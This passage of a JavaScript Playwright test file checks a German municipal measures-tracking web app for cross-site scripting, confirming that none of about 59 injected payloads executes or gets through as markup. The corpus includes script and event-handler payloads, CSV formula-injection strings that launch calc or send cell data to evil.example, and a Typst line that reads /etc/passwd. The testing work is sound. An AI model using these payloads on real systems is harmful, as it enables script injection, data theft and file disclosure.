// XSS corpus in every text field, rendered in headless Chromium (issue 6 "Bad input",
// QUALITY.md "Input and output": ~50 payloads, 0 executions, 0 CSP violations).
//
// Every payload that would run calls window.__xss('<id>') (a Playwright binding, so it works
// under the strict CSP). Because that CSP blocks inline script anyway, three more detectors
// count a payload that reached the DOM unescaped even if it could not run:
//   - securitypolicyviolation events (any violation = markup or a handler got through),
//   - a DOM probe: elements the templates never produce (<img>, <svg>, <iframe>, …), `on*`,
//     `style`, `srcdoc`, `formaction`, `autofocus` attributes, `javascript:` URLs, scripts other
//     than /static/session.js and /static/app.js (in the head), declarative shadow roots,
//   - dialogs (alert/confirm/prompt).
// Payloads go through the real forms (url-encoded POSTs with the session's csrf_token, as the
// browser sends them), then every page showing them is rendered and the literal payload text
// must be visible as text (or as the control's value):
//   - stored: one measure per payload (title; description and the three Beteiligung notes
//     rotate), one status update per payload on one measure (5 text fields rotate), one
//     milestone and one account (display name) per payload; rendered on the detail pages,
//     edit forms, list, search, overview, users page, audit log, as AG member and as Ratsmitglied;
//     the CSV is checked for formula neutralisation. A payload longer than a field's limit is
//     stored cut to that limit (it is rejected whole on the 422 pages);
//   - echoed only (422 pages, ?next=, other query parameters): groups of 5 payloads share a
//     field value and the groups rotate over the form's fields, so every payload still lands in
//     every field (?q= packs payloads up to its 200-character limit). The first submission of each form goes through the browser's own form; the
//     rest are POSTed and their answer is shown in the browser unchanged (same URL + ?__xss=,
//     status, headers and so CSP, bytes) – half the page loads.
//
// Used by run.mjs: `const xss = await runXssCases({ ctx, page, base, logins })` runs the cases
// of the measures, accounts and login pages and returns its helpers (render, rotate422, post, …)
// for xss_more.mjs (the pages of issues 3–5); `await xss.finish()` prints the summary over all.

import { CaseFailure, assert, test } from './harness.mjs';

// ---------------------------------------------------------------------------------------------
// The corpus.

const x = (id) => `__xss('${id}')`;
const LONG_FILLER = 'Lorem ipsum dolor sit amet, Gemeindeverwaltung. ';

/** [id, payload]; ids are what the sentinel reports. */
const RAW = [
  ['p01', `<script>${x('p01')}</script>`],
  ['p02', `<img src=x onerror=${x('p02')}>`],
  ['p03', `<svg onload=${x('p03')}>`],
  ['p04', `<svg><script>${x('p04')}</script></svg>`],
  ['p05', `"><script>${x('p05')}</script>`],
  ['p06', `'><img src=x onerror=${x('p06')}>`],
  ['p07', `" autofocus onfocus="${x('p07')}" x="`],
  ['p08', `' autofocus onfocus='__xss("p08")' x='`],
  ['p09', `"onmouseover="${x('p09')}"style="position:fixed;inset:0`],
  ['p10', `</textarea><script>${x('p10')}</script>`],
  ['p11', `</title><script>${x('p11')}</script>`],
  ['p12', `</p></td></tr></table></code><img src=x onerror=${x('p12')}>`],
  ['p13', `javascript:${x('p13')}`],
  ['p14', `<a href="javascript:${x('p14')}">Klick</a>`],
  ['p15', `<a href=" jav&#x09;ascript:${x('p15')}">Klick</a>`],
  ['p16', `<iframe src="javascript:${x('p16')}"></iframe>`],
  ['p17', `<iframe srcdoc="<script>parent.__xss('p17')</script>"></iframe>`],
  ['p18', `<object data="javascript:${x('p18')}"></object>`],
  ['p19', `<embed src="data:text/html,<script>${x('p19')}</script>">`],
  ['p20', `<body onload=${x('p20')}>`],
  ['p21', `<details open ontoggle=${x('p21')}>`],
  ['p22', `<input autofocus onfocus=${x('p22')}>`],
  ['p23', `<video><source onerror=${x('p23')}></video>`],
  ['p24', `<svg><animate onbegin=${x('p24')} attributeName=x dur=1s>`],
  ['p25', `<math><mtext><table><mglyph><style><img src=x onerror=${x('p25')}>`],
  ['p26', `<noscript><p title="</noscript><img src=x onerror=${x('p26')}>">`],
  ['p27', `<!--<img src="--><img src=x onerror=${x('p27')}//">`],
  ['p28', `<![CDATA[<script>${x('p28')}</script>]]>`],
  ['p29', `<template shadowrootmode="open"><img src=x onerror=${x('p29')}></template>`],
  ['p30', `<style>*{color:red}</style><link rel=stylesheet href="data:text/css,*{}">p30`],
  ['p31', `<div style="background:url(javascript:${x('p31')})">p31</div>`],
  ['p32', `<meta http-equiv="refresh" content="0;url=javascript:${x('p32')}">`],
  ['p33', `<base href="javascript:${x('p33')}//">`],
  ['p34', `<form action="javascript:${x('p34')}"><button formaction="javascript:${x('p34')}">p34</button></form>`],
  ['p35', `<script src="/static/session.js"></script><script src="data:,${x('p35')}"></script>`],
  ['p36', `<ScRiPt>${x('p36')}</sCrIpT>`],
  ['p37', `<scr<script>ipt>${x('p37')}</scr</script>ipt>`],
  ['p38', `<img src=x onerror=&#95;&#95;xss&#40;'p38'&#41;>`],
  ['p39', `&lt;script&gt;${x('p39')}&lt;/script&gt; &amp;lt; &quot;`],
  ['p40', `&#60;img src=x onerror=${x('p40')}&#62; &#x3C;b&#x3E;`],
  ['p41', `%3Cscript%3E${x('p41')}%3C%2Fscript%3E`],
  ['p42', `\\u003cscript\\u003e${x('p42')}\\u003c/script\\u003e \\x3cimg\\x3e`],
  ['p43', `＜script＞${x('p43')}＜/script＞ ＂ ＇`],
  ['p44', `Straße ÄÖÜ 😀 \u202e<script>${x('p44')}</script>\u202c a\u200bb <img src=x onerror=${x('p44')}>`],
  ['p45', `{{ 7*7 }} {% if true %}p45{% endif %} \${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('__xss("p45")')()}}`],
  ['p46', `=HYPERLINK("https://evil.example/?x="&A1;"Klick")`],
  ['p47', `+cmd|' /C calc'!A0`],
  ['p48', `-2+3+cmd|' /C calc'!A0`],
  ['p49', `@SUM(1+1)*cmd|' /C calc'!A0`],
  ['p50', `"},"x":"<img src=x onerror=${x('p50')}>","y":{"`],
  ['p51', `</script><script>${x('p51')}</script>`],
  ['p52', `<img\nsrc=x\tonerror=${x('p52')}>\nzweite Zeile\r\ndritte Zeile`],
  ['p53', `<img src=x onerror=${x('p53')}> ${LONG_FILLER.repeat(60)}<script>${x('p53')}</script>`],
  ['p54', `<script>${x('p54')}</script>`.repeat(20) + 'A'.repeat(10000)],
  ['p55', `<script>${x('p55')}</script>\u0000\u001b[31mrot\u001b[0m\u0007`],
  ['p56', `<b>fett</b><i>kursiv</i><marquee>p56</marquee><h1>p56</h1>`],
  ['p57', `<x onclick=${x('p57')} tabindex=0 autofocus onfocus=${x('p57')}>p57</x>`],
  ['p58', `\\"><img src=x onerror=${x('p58')}>`],
  // Typst (the report PDF): string/markup breakouts, file access, code, math, labels
  ['p59', `\\"); #read("/etc/passwd") #eval("${x('p59')}") #set page(fill: red) $x^2$ *fett* _kursiv_ <marke> @marke ] } )`],
];

/** Rust's char::is_control (category Cc) other than tab, LF, CR: the server rejects these. */
const REJECTED_CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/;

export const PAYLOADS = RAW.map(([id, s]) => ({ id, s, ctrl: REJECTED_CONTROL.test(s) }));

// ---------------------------------------------------------------------------------------------
// Helpers.

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const chars = (s) => [...s].length;
/** What a length-limited field can hold: the trimmed payload, cut to `max` characters. */
export const fit = (s, max) => [...s.trim()].slice(0, max).join('').trim();
// The app removes bidirectional controls and zero-width characters from what it shows
// (src/domain/text.rs): compare text without them.
export const INVISIBLE = /[\u200B-\u200F\u202A-\u202E\u2060\u2066-\u2069\u061C\uFEFF]/g;
export const visible = (s) => String(s).replace(INVISIBLE, '');
/** Whitespace-collapsed text as the parser leaves it (NUL dropped or replaced by U+FFFD). */
export const norm = (s) => visible(s).replace(/[\u0000\uFFFD]/g, '').replace(/\s+/g, ' ').trim();
export const short = (s, n = 70) => JSON.stringify(String(s).length > n ? `${String(s).slice(0, n)}…` : String(s));
export const isoInDays = (days) => new Date(Date.now() + days * 86400000).toISOString().slice(0, 10);
export const FORMULA_START = /^[=+\-@\t\r]/;
/** A number cell (`-580,00`, `2026`, `-3`): written as a number on purpose, not a formula. */
export const NUMBER_CELL = /^-?\d+(,\d+)?$/;
/** A cell a spreadsheet would run as a formula: starts like one and is no plain number. */
export const formulaCell = (c) => FORMULA_START.test(c) && !NUMBER_CELL.test(c);
const neutralised = (raw) => {
  const cell = visible(raw);
  return FORMULA_START.test(cell) ? `'${cell}` : cell;
};

/** Semicolon CSV with RFC 4180 quoting (and the UTF-8 BOM) into rows of cells. */
export function parseCsv(text) {
  if (text.charCodeAt(0) === 0xfeff) text = text.slice(1);
  const rows = [];
  let row = [];
  let cell = '';
  let quoted = false;
  let atStart = true;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') {
        quoted = false;
      } else {
        cell += c;
      }
    } else if (c === '"' && atStart) {
      quoted = true;
      atStart = false;
    } else if (c === ';') {
      row.push(cell);
      cell = '';
      atStart = true;
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      atStart = true;
      i++;
    } else {
      cell += c;
      atStart = false;
    }
  }
  if (cell !== '' || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/**
 * Runs in the page: markup that the templates never produce (so it came from input), and
 * whether the expected texts/values are shown literally.
 */
function probePage({ texts, values, titleText }) {
  const ALLOWED = new Set(
    ('html head meta title link body a header div span form input button nav ul li main p h1 h2 h3 h4 ' +
      'footer script section dl dt dd table caption thead tbody tfoot tr th td strong label select ' +
      'option textarea fieldset legend ol code br figure figcaption details summary article em ins del').split(' '),
  );
  // the charts (goals, portfolio, report): inline SVG with role="img" and these elements only
  const SVG_ALLOWED = new Set('svg g rect line circle polyline path text title desc'.split(' '));
  const SVG_NS = 'http://www.w3.org/2000/svg';
  const norm = (s) => String(s).replace(/[\u200B-\u200F\u202A-\u202E\u2060\u2066-\u2069\u061C\uFEFF]/g, '').replace(/[\u0000\uFFFD]/g, '').replace(/\s+/g, ' ').trim();
  const desc = (el) => el.outerHTML.replace(/\s+/g, ' ').slice(0, 150);
  const injected = [];
  for (const el of document.querySelectorAll('*')) {
    const tag = el.localName;
    if (el.namespaceURI === SVG_NS) {
      const root = el.closest('svg');
      if (!SVG_ALLOWED.has(tag) || root?.getAttribute('role') !== 'img' || root.parentElement?.closest('svg')) {
        injected.push(`SVG element <${tag}>: ${desc(el)}`);
        continue;
      }
    } else if (!ALLOWED.has(tag)) {
      injected.push(`element <${tag}>: ${desc(el)}`);
      continue;
    }
    if (el.shadowRoot) injected.push(`shadow root on <${tag}>: ${desc(el)}`);
    for (const a of el.attributes) {
      const n = a.name.toLowerCase();
      const v = a.value;
      const isScriptSrc = tag === 'script' && n === 'src';
      if (n.startsWith('on') || ['style', 'srcdoc', 'formaction', 'autofocus', 'contenteditable', 'http-equiv'].includes(n)) {
        injected.push(`attribute ${n} on <${tag}>: ${desc(el)}`);
      } else if (n === 'src' && !isScriptSrc) {
        injected.push(`attribute src on <${tag}>: ${desc(el)}`);
      } else if (n === 'value' && tag === 'input') {
        // a control's value holds the payload as typed: that is the expected, escaped case
      } else if (/^\s*(javascript|vbscript|data):/i.test(v) && !(tag === 'link' && v === 'data:,')) {
        injected.push(`attribute ${n}="${v.slice(0, 60)}" on <${tag}>`);
      } else if (/__xss/.test(v) && !['href', 'action', 'aria-label', 'title'].includes(n)) {
        // (hrefs may carry a payload percent-encoded, e.g. the list's sort links keep ?q=;
        // aria-label and title hold a record's name as text, e.g. "Bearbeiten: <title>")
        injected.push(`attribute ${n}="${v.slice(0, 60)}" on <${tag}>`);
      }
    }
  }
  for (const s of document.querySelectorAll('script')) {
    const src = s.getAttribute('src');
    const ours = src === '/static/session.js' || (src === '/static/app.js' && s.parentElement === document.head);
    if (!ours) injected.push(`script: ${desc(s)}`);
  }
  for (const l of document.querySelectorAll('link')) {
    const href = l.getAttribute('href');
    // a report page's own print stylesheet (Vorlage-Nr. and Stichtag on every printed page)
    const reportPrint = location.pathname.startsWith('/berichte/')
      && href === `/berichte/${location.pathname.split('/')[2]}.css` && l.getAttribute('media') === 'print';
    const ok = (['/static/app.css', '/static/print.css', 'data:,'].includes(href) || reportPrint) && l.parentElement === document.head;
    if (!ok) injected.push(`link: ${desc(l)}`);
  }
  for (const m of document.querySelectorAll('meta')) {
    if (m.parentElement !== document.head) injected.push(`meta outside <head>: ${desc(m)}`);
  }
  const titles = [...document.querySelectorAll('title')].filter((t) => t.namespaceURI !== SVG_NS);
  if (titles.length !== 1) injected.push(`${titles.length} <title> elements`);

  const body = norm(document.body ? document.body.textContent : '');
  const missingTexts = texts.filter((t) => !body.includes(norm(t)));
  const missingValues = [];
  for (const { sel, v } of values) {
    const els = [...document.querySelectorAll(sel)];
    if (!els.length) {
      missingValues.push(`${sel}: no such control`);
      continue;
    }
    const want = (el) => norm(el.localName === 'input' ? v.replace(/[\r\n]/g, '') : v);
    const found = els.some((el) => norm(el.value) === want(el));
    if (!found) missingValues.push(`${sel}: value ${JSON.stringify(norm(els[0].value).slice(0, 60))} ≠ ${JSON.stringify(want(els[0]).slice(0, 60))}`);
  }
  const titleOk = titleText == null || norm(document.title).includes(norm(titleText));
  return { injected, missingTexts, missingValues, titleOk, title: document.title };
}

// ---------------------------------------------------------------------------------------------

/** Split `list` into groups of `size`. */
function groups(list, size) {
  const out = [];
  for (let i = 0; i < list.length; i += size) out.push(list.slice(i, i + size));
  return out;
}
/** Several payloads in one field value, each intact (for fields that are only echoed back). */
const joined = (ps) => ps.map((p) => p.s).join(' | ');

export async function runXssCases({ ctx, page, base, logins }) {
  const t0 = Date.now();
  const N = PAYLOADS.length;
  const S = PAYLOADS.filter((p) => !p.ctrl); // storable payloads
  const M = S.length;
  // 422 pages only echo their input: there, groups of payloads share one field value and the
  // groups rotate over the fields, so each payload still lands in every field once.
  const G = groups(PAYLOADS, 5);
  const C = G.length;

  // ---- detectors --------------------------------------------------------------------------
  const executions = []; // { id, url }
  const violations = []; // { url, directive, blocked, sample }
  const dialogs = [];
  let rendered = 0;
  const injections = []; // strings, across all cases
  const responses = new Map(); // key → { status, headers, body } for showResponse()
  let responseSeq = 0;
  const shownHere = (url) => url.origin === base && url.searchParams.has('__xss');

  let setupOk = await test('XSS setup: sentinel binding, CSP-violation listener, dialog trap; self-test', async () => {
    await ctx.exposeBinding('__xss', (source, id) => {
      executions.push({ id: String(id), url: source.frame?.url?.() ?? source.page?.url() ?? '?' });
    });
    await ctx.exposeBinding('__xssCspReport', (source, v) => {
      violations.push({ url: source.page?.url() ?? '?', ...v });
    });
    await ctx.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (e) => {
        window.__xssCspReport?.({
          directive: e.violatedDirective,
          blocked: e.blockedURI,
          sample: e.sample,
          source: `${e.sourceFile}:${e.lineNumber}`,
        });
      });
      for (const f of ['alert', 'confirm', 'prompt', 'print']) {
        window[f] = (...a) => window.__xss?.(`${f}(${String(a[0] ?? '').slice(0, 40)})`);
      }
    });
    const onDialog = (d) => {
      dialogs.push(`${d.type()}: ${d.message().slice(0, 80)}`);
      d.dismiss().catch(() => {});
    };
    for (const p of ctx.pages()) p.on('dialog', onDialog);
    ctx.on('page', (p) => p.on('dialog', onDialog));
    // Responses fetched with ctx.request (a form POST) are shown in the browser unchanged, at
    // the URL they were posted to plus ?__xss=<key>: same status, headers (CSP), bytes.
    await ctx.route(shownHere, async (route) => {
      const key = new URL(route.request().url()).searchParams.get('__xss');
      const r = responses.get(key);
      responses.delete(key);
      await route.fulfill(r ?? { status: 404, contentType: 'text/plain', body: '' });
    });
    // Self-test: a script that runs must be seen. XHTML without CSP (not an HTML document for
    // run.mjs's header check), served through the same route.
    responses.set('selbsttest', {
      status: 200,
      contentType: 'application/xhtml+xml',
      body: `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title></head><body><script>__xss('selbsttest')</script></body></html>`,
    });
    await page.goto(`${base}/__xss-selbsttest?__xss=selbsttest`, { waitUntil: 'load' });
    const probe = await page.evaluate(probePage, { texts: [], values: [], titleText: null });
    for (let i = 0; i < 20 && !executions.length; i++) await sleep(25);
    assert(executions.some((e) => e.id === 'selbsttest'), 'the sentinel binding did not report a script that ran');
    assert(probe.injected.some((l) => l.startsWith('script')), 'the DOM probe did not flag a foreign <script>', probe.injected);
    executions.length = 0;
    return `${N} payloads (${M} storable, ${N - M} with control characters → 422 only)`;
  });
  if (!setupOk) return null;

  const workers = [page];
  for (let i = 0; i < 2; i++) workers.push(await ctx.newPage());

  /** Run `fn(workerPage, item)` over `items` on all worker pages in parallel. */
  async function parallel(items, fn) {
    let next = 0;
    await Promise.all(
      workers.map(async (p) => {
        while (next < items.length) {
          const item = items[next++];
          await fn(p, item);
        }
      }),
    );
  }

  /**
   * A case whose detectors must stay silent: `body(problems)` renders pages and pushes
   * problem lines; afterwards executions, violations and dialogs since the start count too.
   */
  function xssCase(name, body, opts = {}) {
    return test(
      `XSS: ${name}`,
      async () => {
        const e0 = executions.length;
        const v0 = violations.length;
        const d0 = dialogs.length;
        const r0 = rendered;
        const c0 = Date.now();
        const problems = [];
        const extra = await body(problems);
        await sleep(150); // late onerror/onfocus/animation handlers and their reports
        const ex = executions.slice(e0);
        const vi = violations.slice(v0);
        const di = dialogs.slice(d0);
        const lines = [
          ...ex.map((e) => `EXECUTED payload ${e.id} on ${e.url}`),
          ...di.map((d) => `dialog ${d}`),
          ...vi.map((v) => `CSP violation on ${v.url}: ${v.directive} blocked ${v.blocked || '(inline)'} sample ${short(v.sample || '', 60)} at ${v.source}`),
          ...problems,
        ];
        const head = `${ex.length} execution(s), ${vi.length} CSP violation(s), ${problems.length} other problem(s)`;
        if (lines.length) throw new CaseFailure(head, lines.slice(0, 40).concat(lines.length > 40 ? [`… and ${lines.length - 40} more`] : []));
        const secs = ((Date.now() - c0) / 1000).toFixed(1);
        return `${rendered - r0} page(s), 0 executions, 0 violations${extra ? `; ${extra}` : ''}; ${secs} s`;
      },
      { timeoutMs: opts.timeoutMs ?? 30000 },
    );
  }

  /** Inspect the page's current document: status, injected markup, expected texts/values. */
  async function inspect(p, resp, where, { status = [200], texts = [], values = [], titleText = null } = {}, problems) {
    if (resp !== null) {
      // null: the document was already counted, check more of it
      rendered++;
      const st = resp?.status();
      if (!status.includes(st)) problems.push(`${where}: HTTP ${st}, expected ${status.join('/')}`);
      const csp = resp?.headers()['content-security-policy'] || '';
      if (!/script-src 'self'/.test(csp)) problems.push(`${where}: no strict CSP header (${short(csp, 60)})`);
    }
    const r = await p.evaluate(probePage, { texts, values, titleText });
    for (const i of r.injected) {
      const line = `${where}: INJECTED ${i}`;
      problems.push(line);
      injections.push(line);
    }
    for (const t of r.missingTexts) problems.push(`${where}: payload not shown as text: ${short(t)}`);
    for (const v of r.missingValues) problems.push(`${where}: ${v}`);
    if (!r.titleOk) problems.push(`${where}: <title> ${short(r.title)} lacks ${short(titleText)}`);
  }

  async function render(p, target, expect, problems) {
    let resp;
    try {
      resp = await p.goto(base + target, { waitUntil: 'load' });
    } catch (e) {
      problems.push(`${target.slice(0, 80)}: navigation failed: ${e.message.split('\n')[0]}`);
      return;
    }
    await inspect(p, resp, decodeURIComponent(target).slice(0, 90), expect, problems);
  }

  /** Show an APIResponse (e.g. a 422 answer to a form POST) in the browser and inspect it. */
  async function showResponse(p, target, r, where, expect, problems) {
    const key = String(++responseSeq);
    const headers = { ...r.headers() };
    for (const h of ['content-length', 'content-encoding', 'transfer-encoding', 'connection']) delete headers[h];
    responses.set(key, { status: r.status(), headers, body: await r.body() });
    const resp = await p.goto(`${base}${target}?__xss=${key}`, { waitUntil: 'load' });
    await inspect(p, resp, where, expect, problems);
  }

  /** Submit `formSel` in the browser after setting its controls from `vals` (maxlength does not apply). */
  async function submitForm(p, target, formSel, vals) {
    await p.goto(base + target, { waitUntil: 'load' });
    await p.evaluate(
      ({ formSel, vals }) => {
        const form = document.querySelector(formSel);
        for (const [name, v] of Object.entries(vals)) {
          const el = form.elements.namedItem(name);
          if (!el) throw new Error(`no control ${name}`);
          if (el.type === 'checkbox') el.checked = !!v;
          else el.value = v;
        }
      },
      { formSel, vals },
    );
    const [resp] = await Promise.all([
      p.waitForNavigation({ waitUntil: 'load' }),
      p.evaluate((formSel) => document.querySelector(formSel).requestSubmit(), formSel),
    ]);
    return resp;
  }

  async function login(user, password = logins[user]) {
    await ctx.clearCookies();
    await page.goto(`${base}/anmelden`, { waitUntil: 'load' });
    await page.fill('#f-username', user);
    await page.fill('#f-password', password);
    await Promise.all([page.waitForNavigation({ waitUntil: 'load' }), page.getByRole('button', { name: 'Anmelden' }).click()]);
    assert(!new URL(page.url()).pathname.startsWith('/anmelden'), `login as ${user} failed`);
    return page.inputValue('input[name="csrf_token"]');
  }

  let csrf = '';
  /** A url-encoded form POST with the session's csrf_token, as the browser would send it. */
  const postRaw = (target, form) =>
    ctx.request.post(base + target, { form: { csrf_token: csrf, ...form }, maxRedirects: 0, headers: { Origin: base } });

  async function post(target, form, { want = [303] } = {}) {
    const r = await postRaw(target, form);
    const st = r.status();
    if (!want.includes(st)) {
      const text = (await r.text()).replace(/<[^>]+>/g, ' ').replace(/\s+/g, ' ');
      const alert = text.match(/Bitte korrigieren.*/)?.[0] ?? text;
      throw new CaseFailure(`POST ${target}: HTTP ${st}, expected ${want.join('/')}`, [alert.slice(0, 400)]);
    }
    return { status: st, location: r.headers().location || '' };
  }

  /**
   * A 422 form round: submission c puts payload group (c + j) mod C into field j. The first
   * submission goes through the browser's own form, the others are POSTed and the answer shown.
   */
  async function rotate422(label, { target, page: formPage, formSel, fields, fixed = {}, expectValues = fields, sel = (f) => `#f-${f}`, status = [422], suffixes = {}, after }, problems) {
    await parallel(
      [...Array(C).keys()],
      async (p, c) => {
        const vals = { ...fixed };
        fields.forEach((f, j) => {
          vals[f] = joined(G[(c + j) % C]) + (suffixes[f] ?? '');
        });
        const expect = { status, values: expectValues.map((f) => ({ sel: sel(f), v: vals[f] })) };
        const where = `${label} #${c}`;
        try {
          if (c === 0) {
            const resp = await submitForm(p, formPage, formSel, vals);
            await inspect(p, resp, `${where} (browser form)`, expect, problems);
          } else {
            const form = Object.fromEntries(Object.entries(vals).map(([k, v]) => [k, v === true ? 'on' : v]));
            await showResponse(p, target, await postRaw(target, form), where, expect, problems);
          }
          if (after) await after(p, where);
        } catch (e) {
          problems.push(`${where}: ${e.message.split('\n')[0]}`);
        }
      },
    );
    return `${C} submissions`;
  }

  // ---- AG: store the storable payloads in every text field ----------------------------------
  const measures = []; // { id, href, code, title, description, notes: [dsb, isb, pr] }
  let host = null; // the measure that gets the status updates and milestones
  const updates = []; // { text, next_steps, blockers, reason, options }
  const milestones = [];
  let baseForm = null;
  const today = isoInDays(0);

  setupOk = await test(`XSS setup (ag): ${M} measures, ${M} status updates, ${M} milestones saved through the forms`, async () => {
    csrf = await login('ag');
    await page.goto(`${base}/massnahmen/neu`, { waitUntil: 'load' });
    baseForm = await page.evaluate(() => {
      const f = document.querySelector('main form.form');
      const pick = (name, prefer) => {
        const opts = [...f.elements.namedItem(name).options].filter((o) => o.value);
        return (opts.find((o) => prefer && o.textContent.includes(prefer)) || opts[0])?.value ?? '';
      };
      return {
        ...Object.fromEntries(new FormData(f)),
        field_id: pick('field_id'),
        org_unit_id: pick('org_unit_id'),
        person_id: pick('person_id', 'Vogelsang'), // the AG login's own person: "Meine Maßnahmen"
      };
    });
    delete baseForm.csrf_token;
    for (let k = 0; k < M; k++) {
      const m = {
        code: k === M - 1 ? `-XSS-${k}` : `XSS-${String(k).padStart(2, '0')}`, // a code starting with "-" for the CSV
        title: fit(S[k].s, 200),
        description: fit(S[(k + 1) % M].s, 8000),
        publicText: fit(S[(k + 5) % M].s, 8000), // issue 16: the public description
        notes: [2, 3, 4].map((j) => fit(S[(k + j) % M].s, 2000)),
      };
      const { location } = await post('/massnahmen/neu', {
        ...baseForm,
        code: m.code,
        title: m.title,
        description: m.description,
        public: 'on',
        public_description: m.publicText,
        priority: 'mittel',
        effort_days: '0',
        dsb_relevant: 'on',
        dsb_state: 'mit_auflagen',
        dsb_date: today,
        dsb_note: m.notes[0],
        isb_relevant: 'on',
        isb_state: 'erteilt',
        isb_date: today,
        isb_note: m.notes[1],
        pr_relevant: 'on',
        pr_state: 'offen',
        pr_date: '',
        pr_note: m.notes[2],
        ozg_key: '',
        ozg_model: '',
        ozg_level: '',
      });
      const id = location.match(/^\/massnahmen\/(\d+)/)?.[1];
      assert(id, `no measure id in Location ${short(location)}`);
      measures.push({ ...m, id, href: `/massnahmen/${id}` });
    }
    host = measures[0];
    for (let k = 0; k < M; k++) {
      const u = {
        text: fit(S[k].s, 4000),
        next_steps: fit(S[(k + 1) % M].s, 4000),
        blockers: fit(S[(k + 2) % M].s, 4000),
        reason: fit(S[(k + 3) % M].s, 4000),
        options: fit(S[(k + 4) % M].s, 4000),
      };
      // the last one is Rot, so the host measure is listed on the overview
      await post(`${host.href}/sachstand`, {
        status: 'umsetzung',
        ampel: k === M - 1 ? 'rot' : 'gelb',
        progress: String(k % 101),
        decision_by: isoInDays(30),
        ...u,
      });
      updates.push(u);
      const ms = { ms_title: fit(S[k].s, 200), ms_due: isoInDays(10 + k) };
      await post(`${host.href}/meilensteine`, ms);
      milestones.push(ms.ms_title);
    }
    return `${M * 3} POSTs, ${((Date.now() - t0) / 1000).toFixed(1)} s`;
  }, { timeoutMs: 40000 });
  if (!setupOk) {
    for (const p of workers.slice(1)) await p.close().catch(() => {});
    return null;
  }

  const detailExpect = (m) => ({ texts: [m.title, m.description, ...m.notes], titleText: m.title });
  const hostTexts = () => [...milestones, ...updates.flatMap((u) => [u.text, u.next_steps, u.blockers, u.reason, u.options])];

  // ---- AG: render ---------------------------------------------------------------------------
  await xssCase(`measure detail (ag): history timeline (${M} updates × 5 fields), ${M} milestones`, async (problems) => {
    const e = detailExpect(host);
    await render(page, host.href, { ...e, texts: [...e.texts, ...hostTexts()] }, problems);
  });
  await xssCase(`measure detail (ag): ${M} measures – title (h1, <title>), description, Beteiligung notes`, async (problems) => {
    await parallel(measures.slice(1), (p, m) => render(p, m.href, detailExpect(m), problems));
  });
  // issue 16: the public view (the AG's preview; the council's measure page is the same piece)
  await xssCase(`public view (ag preview): ${M} measures – title and public description`, async (problems) => {
    await parallel(measures, (p, m) =>
      render(p, `${m.href}/oeffentlich`, { texts: [m.title, m.publicText], titleText: m.title }, problems),
    );
  });
  await xssCase(`edit form (ag): ${M} measures – stored payloads as input/textarea values`, async (problems) => {
    await parallel(measures, (p, m) =>
      render(
        p,
        `${m.href}/bearbeiten`,
        {
          values: [
            { sel: '#f-code', v: m.code },
            { sel: '#f-title', v: m.title },
            { sel: '#f-description', v: m.description },
            { sel: '#f-dsb_note', v: m.notes[0] },
            { sel: '#f-isb_note', v: m.notes[1] },
            { sel: '#f-pr_note', v: m.notes[2] },
          ],
        },
        problems,
      ),
    );
  });
  await xssCase('measure list (ag), sorted by title, overview', async (problems) => {
    const titles = measures.map((m) => m.title);
    await render(page, '/massnahmen', { texts: titles }, problems);
    await render(page, '/massnahmen?sort=titel&richtung=ab', { texts: titles }, problems);
    // overview: the host is Rot; all XSS measures are the AG login's own ("Meine Maßnahmen")
    await render(page, '/', { texts: [host.title] }, problems);
    const mine = await page.locator('section[aria-labelledby="h-meine"]').count();
    if (mine) await inspect(page, null, '/ (Meine Maßnahmen)', { texts: titles }, problems);
    return mine ? 'overview: Rot list and "Meine Maßnahmen"' : 'overview: Rot list';
  });
  await xssCase(`measure list search q (ag): all ${N} payloads as search terms, results, sort links`, async (problems) => {
    // q is at most 200 characters: short payloads share a search, longer ones get their own
    const searches = [];
    let cur = [];
    for (const pl of PAYLOADS) {
      const len = (ps) => chars(joined(ps).trim());
      if (cur.length && len([...cur, pl]) > 200) {
        searches.push(cur);
        cur = [];
      }
      cur.push(pl);
    }
    if (cur.length) searches.push(cur);
    // and a few exact titles, so the result rows show the payload measures
    const exact = measures.filter((m, i) => i % 12 === 1);
    const items = [
      ...searches.map((ps) => ({ q: joined(ps), found: null })),
      ...exact.map((m) => ({ q: m.title, found: m })),
    ];
    await parallel(items, async (p, { q, found }) => {
      const over = chars(q.trim()) > 200;
      await render(
        p,
        `/massnahmen?q=${encodeURIComponent(q)}`,
        { status: over ? [400] : [200], values: over ? [] : [{ sel: '#f-q', v: q }], texts: found ? [found.title] : [] },
        problems,
      );
      if (found && !(await p.locator(`table.data a[href="${found.href}"]`).count())) {
        problems.push(`search for ${short(q, 30)} did not list its measure ${found.code}`);
      }
    });
    return `${items.length} searches`;
  });
  await xssCase('measure list: payloads in the other query parameters (400 pages)', async (problems) => {
    const breakouts = joined([PAYLOADS[0], PAYLOADS[4], PAYLOADS[6], PAYLOADS[9], PAYLOADS[10]]);
    const targets = ['status', 'ampel', 'sort', 'richtung', 'programm', 'hf', 'einheit'].map(
      (param) => [`/massnahmen?${param}=${encodeURIComponent(breakouts)}`, [400]],
    );
    // archiv/meine are flags: anything but "1" is ignored, the page must still be clean
    targets.push([`/massnahmen?archiv=${encodeURIComponent(breakouts)}&meine=${encodeURIComponent(breakouts)}&q=x`, [200, 400]]);
    await parallel(targets, (p, [t, status]) => render(p, t, { status }, problems));
  });

  await xssCase(`new-measure form 422 (code, LeiKa key invalid): all ${N} payloads in code, title, description, 3 notes, LeiKa key`, async (problems) =>
    rotate422(
      'POST /massnahmen/neu',
      {
        target: '/massnahmen/neu',
        page: '/massnahmen/neu',
        formSel: 'main form.form',
        fields: ['code', 'title', 'description', 'dsb_note', 'isb_note', 'pr_note', 'ozg_key'],
        fixed: {
          dsb_relevant: true,
          dsb_state: 'mit_auflagen',
          isb_relevant: true,
          isb_state: 'offen',
          field_id: baseForm.field_id,
          org_unit_id: baseForm.org_unit_id,
          person_id: baseForm.person_id,
          priority: 'mittel',
          version: baseForm.version ?? '',
        },
        after: async (p, where) => {
